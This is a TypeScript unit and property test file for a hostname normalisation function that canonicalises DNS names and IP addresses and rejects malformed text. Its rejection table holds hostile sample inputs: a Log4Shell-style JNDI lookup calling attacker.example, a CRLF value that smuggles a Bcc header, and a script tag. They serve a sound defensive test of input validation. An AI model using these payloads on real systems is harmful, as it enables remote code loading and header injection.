import { isIP } from "node:net";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { normaliseName } from "../../../functions/sni-collector/name.ts";

const hostname = (name: string) => ({ kind: "hostname", name });
const address = (name: string) => ({ kind: "address", name });

describe("forms of a name", () => {
  it.each([
    ["www.example.com", hostname("www.example.com")],
    ["WWW.Example.COM", hostname("www.example.com")],
    ["\u212aey.example.com", hostname("key.example.com")],
    ["www.example.com.", hostname("www.example.com")],
    ["www.example.com:443", hostname("www.example.com")],
    ["www.example.com.:8443", hostname("www.example.com")],
    ["localhost", hostname("localhost")],
    ["_dmarc.example.com", hostname("_dmarc.example.com")],
    ["r3---sn-4g5e6nzz.example.com", hostname("r3---sn-4g5e6nzz.example.com")],
    ["Bücher.example.com", hostname("xn--bcher-kva.example.com")],
    ["xn--bcher-kva.example.com", hostname("xn--bcher-kva.example.com")],
    ["例え。テスト", hostname("xn--r8jz45g.xn--zckzah")],
    ["203.0.113.9", address("203.0.113.9")],
    ["203.0.113.9:80", address("203.0.113.9")],
    ["１９８.51.100.7", address("198.51.100.7")],
    ["Bücher.example.com。", hostname("xn--bcher-kva.example.com")],
    ["::1", address("::1")],
    ["[::1]", address("::1")],
    ["[2001:DB8::1]:8443", address("2001:db8::1")],
    ["2001:0db8:0000:0000:0000:0000:0000:0001", address("2001:db8::1")],
    [`${"a".repeat(63)}.example.com`, hostname(`${"a".repeat(63)}.example.com`)],
  ])("The name %s of a host is brought into one form.", (raw, expected) => {
    expect(normaliseName(raw)).toEqual(expected);
  });

  it("The name of a host is taken with 253 characters, and refused with more.", () => {
    const name = ["a", "b", "c"].map((letter) => letter.repeat(63)).join(".");
    expect(normaliseName(`${name}.${"d".repeat(61)}`)).toEqual(hostname(`${name}.${"d".repeat(61)}`));
    expect(normaliseName(`${name}.${"d".repeat(62)}`)).toBeUndefined();
  });
});

describe("text that is not a name", () => {
  it.each([
    ["control character", "a\u0000.example.com"],
    ["line break and header", "victim.example.com\r\nBcc: everyone@example.com"],
    ["escape sequence", "\u001b[31mred.example.com"],
    ["right-to-left override", "\u202egnp.example.com"],
    ["label of 64 characters", `${"a".repeat(64)}.example.com`],
    ["megabyte", "a".repeat(1_048_576)],
    ["lookup expression", "\u0024{jndi:ldap://attacker.example/a}"],
    ["HTML", "<script>alert(1)</script>"],
    ["wildcard", "*.example.com"],
    ["empty label", "a..example.com"],
    ["only a dot", "."],
    ["leading hyphen", "-a.example.com"],
    ["trailing hyphen", "a-.example.com"],
    ["space", "a b.example.com"],
    ["path", "evil.example.com/path"],
    ["user", "user@evil.example.com"],
    ["path after letters beyond ASCII", "bücher/evil.example.com"],
    ["query after letters beyond ASCII", "bücher?evil.example.com"],
    ["percent sign among letters beyond ASCII", "bücher%2eexample.com"],
    ["tab in punycode", "xn--bcher-kva\t.example.com"],
    ["percent sign", "evil%2eexample.com"],
    ["broken punycode", "xn--\u00e4.example.com"],
    ["numbers that are no IPv4 address", "999.999.999.999"],
    ["IPv4 address with leading zeros", "010.0.0.1"],
    ["IPv4 address in hexadecimal", "0x7f000001"],
    ["full-width digits that are no whole address", "１.１"],
    ["full-width hexadecimal", "０x7f000001"],
    ["port without a number", "example.com:http"],
    ["IPv4 address in brackets", "[203.0.113.9]"],
    ["lone surrogate", "\ud800.example.com"],
  ])("The name of a host is not such text, and it is refused: %s.", (_what, raw) => {
    expect(normaliseName(raw)).toBeUndefined();
  });
});

describe("any text", () => {
  const anyText = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.domain(),
    fc.webAuthority({ withPort: true }),
    fc.ipV4(),
    fc.ipV6(),
    fc.string({ unit: fc.constantFrom(..."abcXYZ019.-_:[]%/@ü。٣\u202e\u0000".split("")), maxLength: 40 }),
  );

  const anyName = anyText.map(normaliseName).filter((name) => name !== undefined);

  it("The name of a host that any text gives is a DNS name and not an address.", () => {
    const hostnames = anyName.filter(({ kind }) => kind === "hostname");
    fc.assert(
      fc.property(hostnames, ({ name }) => {
        expect(name.length).toBeLessThanOrEqual(253);
        expect(isIP(name)).toBe(0);
        for (const label of name.split(".")) expect(label).toMatch(/^[a-z0-9_]([a-z0-9_-]{0,61}[a-z0-9_])?$/);
      }),
      { numRuns: 1_000 },
    );
  });

  it("The name of a host that any text gives as an address is an IP address in canonical form.", () => {
    const addresses = anyName.filter(({ kind }) => kind === "address");
    fc.assert(
      fc.property(addresses, ({ name }) => {
        expect(isIP(name)).not.toBe(0);
        expect(name).toMatch(/^[0-9a-f.:]+$/);
      }),
      { numRuns: 1_000 },
    );
  });

  it("The name of a host does not change when it is normalised again.", () => {
    fc.assert(
      fc.property(anyName, (name) => {
        expect(normaliseName(name.name)).toEqual(name);
      }),
      { numRuns: 1_000 },
    );
  });
});
